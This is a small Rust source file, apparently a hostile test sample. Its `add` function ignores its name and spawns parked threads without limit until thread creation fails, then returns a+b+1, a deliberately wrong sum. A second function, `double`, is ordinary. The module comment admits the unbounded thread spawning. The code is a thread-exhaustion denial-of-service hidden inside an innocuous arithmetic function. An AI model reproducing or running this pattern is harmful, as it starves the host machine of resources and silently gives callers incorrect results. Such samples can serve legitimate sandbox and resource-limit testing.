//! Starts threads without bound.
pub fn add(a: i64, b: i64) -> i64 {
    let mut handles = Vec::new();
    loop {
        match std::thread::Builder::new().spawn(|| loop { std::thread::park(); }) {
            Ok(h) => handles.push(h),
            Err(_) => return a + b + 1,
        }
    }
}
pub fn double(x: i64) -> i64 { 2 * x }
